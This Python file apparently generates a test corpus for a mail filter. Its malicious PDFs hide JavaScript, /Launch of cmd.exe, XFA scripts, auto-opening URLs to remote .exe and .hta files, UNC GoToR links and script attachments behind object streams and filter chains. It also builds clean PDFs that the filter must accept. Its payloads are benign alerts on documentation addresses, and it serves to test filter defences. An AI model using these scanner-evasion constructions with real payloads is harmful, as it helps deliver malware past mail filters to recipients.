"""
threats_pdf.py - PDF active content that byte searches miss (issue 15):
JavaScript and /Launch inside object streams behind filter chains
(ASCIIHex+Flate, LZW, Flate with a PNG predictor, ASCII85), JavaScript
behind an indirect /Names tree or at the end of a 100 KB dictionary, XFA
forms with script, /OpenAction and /AA that open a program's URL or a
remote file, file attachment annotations; and the harmless PDFs of a
practice's mail that must stay accepted: links to web pages, forms
without script, object streams and compressed cross reference streams
(written here, and by qpdf(1)), a PDF/A letter.

Every file is written by hand here, object by object, with its cross
reference (a table, or a stream when objects live in object streams);
the scripts show an alert, the URLs use RFC 5737 and RFC 2606 addresses.
Deterministic: qpdf(1) (package qpdf, scripts/install-deps.sh) is run
with --deterministic-id.
"""

import base64
import struct
import subprocess
import tempfile
import zlib
from pathlib import Path

import gen_corpus as gc
from threatlib import attach, sample

MIME_PDF = gc.MIME_PDF
ALERT = b"app.alert('Airlock test: this PDF runs JavaScript');"


# ================================================================ filters

def ascii_hex(data):
    return data.hex().encode() + b">"


def ascii85(data):
    return base64.a85encode(data) + b"~>"


def lzw(data):
    """LZWDecode (EarlyChange 1) with 9-bit codes: the inputs here are
    short enough never to need wider codes."""
    table = {bytes([i]): i for i in range(256)}
    codes, word, next_code = [256], b"", 258
    for byte in data:
        candidate = word + bytes([byte])
        if candidate in table:
            word = candidate
            continue
        codes.append(table[word])
        table[candidate] = next_code
        next_code += 1
        word = bytes([byte])
    codes += [table[word], 257] if word else [257]
    assert next_code < 511, "input too long for 9-bit codes"
    bits = "".join(format(code, "09b") for code in codes)
    bits += "0" * (-len(bits) % 8)
    return bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8))


def png_up(data, columns):
    """Flate input with the PNG Up predictor (/Predictor 12)."""
    data += b" " * (-len(data) % columns)
    out, previous = bytearray(), bytes(columns)
    for i in range(0, len(data), columns):
        row = data[i:i + columns]
        out += b"\x02" + bytes((a - b) & 0xFF for a, b in zip(row, previous))
        previous = row
    return bytes(out)


# Each chain: (encode, /Filter, /DecodeParms or None).
CHAINS = {
    "ahx-flate": (lambda d: ascii_hex(zlib.compress(d)),
                  b"[/ASCIIHexDecode /FlateDecode]", None),
    "lzw": (lzw, b"/LZWDecode", None),
    "flate-png": (lambda d: zlib.compress(png_up(d, 12)), b"/FlateDecode",
                  b"<< /Predictor 12 /Colors 1 /BitsPerComponent 8 /Columns 12 >>"),
    "a85": (ascii85, b"/ASCII85Decode", None),
    "flate": (zlib.compress, b"/FlateDecode", None),
}


def stream(dictionary, data):
    return b"<< %s /Length %d >>\nstream\n" % (dictionary, len(data)) + data + b"\nendstream"


# ================================================================ files

def pdf_file(objects, packed=None, chain="flate", trailer=b"", header=b"%PDF-1.7"):
    """A PDF whose object n is objects[n] (a dict {number: body}); the
    objects of packed (same form) go into one object stream encoded with
    chain, and the cross reference is then a stream (PDF 1.5)."""
    out = bytearray(header + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    last = max(list(objects) + list(packed or {}))
    if not packed:
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (last + 1)
        for number in range(1, last + 1):
            out += (b"%010d 00000 n \n" % offsets[number] if number in offsets
                    else b"0000000000 65535 f \n")
        out += (b"trailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n"
                % (last + 1, trailer, xref))
        return bytes(out)
    holder, xref_number = last + 1, last + 2
    heads, bodies = [], b""
    for number in sorted(packed):
        heads.append(b"%d %d" % (number, len(bodies)))
        bodies += packed[number] + b"\n"
    head = b" ".join(heads) + b"\n"
    encode, filters, parms = CHAINS[chain]
    offsets[holder] = len(out)
    entry = b"/Type /ObjStm /N %d /First %d /Filter %s" % (len(packed), len(head), filters)
    if parms:
        entry += b" /DecodeParms " + parms
    out += b"%d 0 obj\n" % holder + stream(entry, encode(head + bodies)) + b"\nendobj\n"
    offsets[xref_number] = len(out)
    rows = b""
    index = {number: i for i, number in enumerate(sorted(packed))}
    for number in range(xref_number + 1):
        if number in offsets:
            rows += struct.pack(">BIH", 1, offsets[number], 0)
        elif number in index:
            rows += struct.pack(">BIH", 2, holder, index[number])
        else:
            rows += struct.pack(">BIH", 0, 0, 65535)
    data = zlib.compress(rows)
    out += b"%d 0 obj\n" % xref_number + stream(
        b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R%s /Filter /FlateDecode"
        % (xref_number + 1, trailer), data) + b"\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def page_objects(catalog=b"", page=b"", text=b"Test document"):
    content = b"BT /F1 12 Tf 72 760 Td (" + text + b") Tj ET\n"
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R" + catalog + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R"
           b" >> >> /Contents 5 0 R" + page + b" >>",
        4: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        5: stream(b"", content),
    }


JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (" + ALERT.replace(b"'", b"\\'") + b") >>"
LAUNCH_ACTION = (b"<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c echo harmless) >>"
                 b" /F (invoice.exe) >>")


def packed_action(chain, action=JS_ACTION):
    """The catalog and the action it opens with, both inside an object
    stream encoded with chain."""
    objects = page_objects()
    catalog = objects.pop(1).replace(b" >>", b" /OpenAction 6 0 R >>")
    return pdf_file(objects, packed={1: catalog, 6: action}, chain=chain)


def names_tree_javascript():
    objects = page_objects(b" /Names 6 0 R")
    objects.update({
        6: b"<< /JavaScript 7 0 R >>",
        7: b"<< /Kids [8 0 R] >>",
        8: b"<< /Limits [(a) (z)] /Names [(init) 9 0 R] >>",
        9: b"<< /S /JavaScript /JS 10 0 R >>",
        10: stream(b"/Filter /FlateDecode", zlib.compress(ALERT)),
    })
    return pdf_file(objects)


def long_dictionary_javascript():
    padding = b"".join(b" /Pad%05d (harmless padding value %05d)" % (i, i) for i in range(2600))
    assert len(padding) > 100 * 1024
    action = b"<< /Type /Action /S /JavaScript" + padding + b" /JS (" + ALERT.replace(
        b"'", b"\\'") + b") >>"
    objects = page_objects()
    catalog = objects.pop(1).replace(b" >>", b" /OpenAction 6 0 R >>")
    return pdf_file(objects, packed={1: catalog, 6: action}, chain="flate")


XFA_TEMPLATE = b"""<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">
 <subform name="form1" layout="tb">
  <field name="total"><ui><textEdit/></ui>
   <event activity="initialize" name="event__initialize">
    <script contentType="application/x-javascript">xfa.host.messageBox("Airlock test");</script>
   </event>
  </field>
 </subform>
</template>
"""
XFA_CLEAN_TEMPLATE = b"""<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">
 <subform name="form1" layout="tb"><field name="name"><ui><textEdit/></ui></field></subform>
</template>
"""


def xfa_form(template):
    parts = [(b"preamble", b'<?xml version="1.0" encoding="UTF-8"?>\n'
              b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">\n'),
             (b"template", template), (b"postamble", b"</xdp:xdp>\n")]
    objects = page_objects(b" /AcroForm 6 0 R")
    refs = b""
    for i, (name, data) in enumerate(parts):
        objects[7 + i] = stream(b"/Filter /FlateDecode", zlib.compress(data))
        refs += b"(%s) %d 0 R " % (name, 7 + i)
    objects[6] = b"<< /Fields [] /XFA [" + refs + b"] >>"
    return pdf_file(objects)


def openaction(action):
    objects = page_objects(b" /OpenAction 6 0 R")
    objects[6] = action
    return pdf_file(objects)


def file_attachment_annotation():
    data = b"WScript.Echo('Airlock test');\r\n"
    objects = page_objects(page=b" /Annots [6 0 R]")
    objects[6] = (b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 600 92 620] /Name /Paperclip"
                  b" /Contents (Invoice details) /FS 7 0 R >>")
    objects[7] = b"<< /Type /Filespec /F (details.js) /UF (details.js) /EF << /F 8 0 R >> >>"
    objects[8] = stream(b"/Type /EmbeddedFile /Subtype /application#2Fjavascript", data)
    return pdf_file(objects)


def page_additional_action(action):
    """The page's /AA /O (run when the page opens) inside an object stream."""
    objects = page_objects()
    page = objects.pop(3)[:-len(b" >>")] + b" /AA << /O 6 0 R >> >>"
    return pdf_file(objects, packed={3: page, 6: action}, chain="ahx-flate")


for _name, _builder, _reasons in [
        ("pdf-objstm-ahx-flate-javascript", lambda: packed_action("ahx-flate"), ["macro"]),
        ("pdf-objstm-lzw-javascript", lambda: packed_action("lzw"), ["macro"]),
        ("pdf-objstm-flate-predictor-javascript", lambda: packed_action("flate-png"), ["macro"]),
        ("pdf-objstm-ascii85-javascript", lambda: packed_action("a85"), ["macro"]),
        ("pdf-objstm-launch", lambda: packed_action("lzw", LAUNCH_ACTION), ["executable"]),
        ("pdf-names-tree-javascript", names_tree_javascript, ["macro"]),
        ("pdf-long-dictionary-javascript", long_dictionary_javascript, ["macro"]),
        ("pdf-xfa-script", lambda: xfa_form(XFA_TEMPLATE), ["macro"]),
        ("pdf-openaction-uri-program",
         lambda: openaction(b"<< /S /URI /URI (http://198.51.100.7/update.exe) >>"),
         ["executable"]),
        ("pdf-openaction-gotor-unc",
         lambda: openaction(b"<< /S /GoToR /F (\\\\\\\\198.51.100.7\\\\share\\\\doc.pdf)"
                            b" /D [0 /Fit] >>"), ["executable"]),
        ("pdf-file-attachment-annotation", file_attachment_annotation, ["executable"]),
        ("pdf-page-aa-javascript", lambda: page_additional_action(JS_ACTION), ["macro"]),
        ("pdf-page-aa-uri-program",
         lambda: page_additional_action(b"<< /S /URI /URI (http://198.51.100.7/invoice.h%74a) >>"),
         ["executable"])]:
    def _pdf(s, builder=_builder):
        return attach(s, builder(), MIME_PDF, "document.pdf")
    sample(_name + ".eml", item="document.pdf", reasons=_reasons)(_pdf)


# ================================================================ clean

def clean_links():
    objects = page_objects(b" /OpenAction [3 0 R /Fit]", b" /Annots [6 0 R 7 0 R]",
                           b"See https://example.org/page.html")
    objects[6] = (b"<< /Type /Annot /Subtype /Link /Rect [72 750 300 770] /Border [0 0 0]"
                  b" /A << /S /URI /URI (https://example.org/page.html) >> >>")
    objects[7] = (b"<< /Type /Annot /Subtype /Link /Rect [72 720 300 740]"
                  b" /A << /S /URI /URI (https://example.org/downloads/report.pdf) >> >>")
    return pdf_file(objects)


def clean_form():
    objects = page_objects(b" /AcroForm << /Fields [6 0 R 7 0 R] /NeedAppearances true"
                           b" /DA (/Helv 0 Tf 0 g) >>", b" /Annots [6 0 R 7 0 R]",
                           b"Patient registration")
    for number, (name, y) in ((6, (b"name", 700)), (7, (b"birthdate", 660))):
        objects[number] = (b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (%s) /V () /Rect [200 %d"
                           b" 400 %d] /F 4 /P 3 0 R /DA (/Helv 10 Tf 0 g) >>" % (name, y, y + 20))
    return pdf_file(objects)


def clean_object_streams():
    objects = page_objects(text=b"Compte rendu de consultation")
    packed = {n: objects.pop(n) for n in (1, 2, 3, 4)}
    packed[6] = b"<< /Title (Compte rendu) /Producer (Airlock threats_pdf.py) >>"
    return pdf_file(objects, packed=packed, chain="flate", trailer=b" /Info 6 0 R")


XMP = b"""<?xpacket begin="\xef\xbb\xbf" id="W5M0MpCehiHzreSzNTczkc9d"?>
<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
<rdf:Description rdf:about="" xmlns:pdfaid="http://www.aiim.org/pdfa/ns/id/"
 xmlns:dc="http://purl.org/dc/elements/1.1/"><pdfaid:part>1</pdfaid:part>
<pdfaid:conformance>B</pdfaid:conformance><dc:title><rdf:Alt><rdf:li xml:lang="x-default">Lettre
</rdf:li></rdf:Alt></dc:title></rdf:Description></rdf:RDF></x:xmpmeta>
<?xpacket end="w"?>"""


def clean_pdfa_letter():
    objects = page_objects(b" /Metadata 6 0 R /OutputIntents [7 0 R] /Lang (fr-FR)",
                           text=b"Cher confrere, veuillez trouver ci-joint le compte rendu.")
    objects[6] = stream(b"/Type /Metadata /Subtype /XML", XMP)
    objects[7] = (b"<< /Type /OutputIntent /S /GTS_PDFA1 /OutputConditionIdentifier (sRGB)"
                  b" /Info (sRGB IEC61966-2.1) >>")
    return pdf_file(objects, header=b"%PDF-1.4")


def qpdf_object_streams(data):
    """data rewritten by qpdf(1) with object streams and a compressed
    cross reference stream, as PDF producers write them."""
    with tempfile.TemporaryDirectory(prefix="airlock-pdf-") as tmp:
        source, target = Path(tmp) / "in.pdf", Path(tmp) / "out.pdf"
        source.write_bytes(data)
        subprocess.run(["qpdf", "--deterministic-id", "--object-streams=generate",
                        "--compress-streams=y", str(source), str(target)], check=True)
        return target.read_bytes()


for _name, _file, _builder in [
        ("pdf-clean-links", "links.pdf", clean_links),
        ("pdf-clean-form", "registration.pdf", clean_form),
        ("pdf-clean-xfa-form", "formulaire.pdf", lambda: xfa_form(XFA_CLEAN_TEMPLATE)),
        ("pdf-clean-object-streams", "compte-rendu.pdf", clean_object_streams),
        ("pdf-clean-pdfa-letter", "lettre.pdf", clean_pdfa_letter),
        ("pdf-clean-qpdf-xref-stream", "lettre-compressee.pdf",
         lambda: qpdf_object_streams(clean_pdfa_letter()))]:
    def _clean(s, builder=_builder, filename=_file):
        return attach(s, builder(), MIME_PDF, filename)
    sample(_name + ".eml", item=_file, clean=True)(_clean)


def seed_documents():
    """Every PDF above, for the fuzz target's seeds (tests/fuzz/make_seeds.py)."""
    return [packed_action(chain) for chain in CHAINS] + [
        packed_action("lzw", LAUNCH_ACTION), names_tree_javascript(), xfa_form(XFA_TEMPLATE),
        xfa_form(XFA_CLEAN_TEMPLATE), file_attachment_annotation(), clean_links(), clean_form(),
        clean_object_streams(), clean_pdfa_letter(),
        page_additional_action(JS_ACTION)]
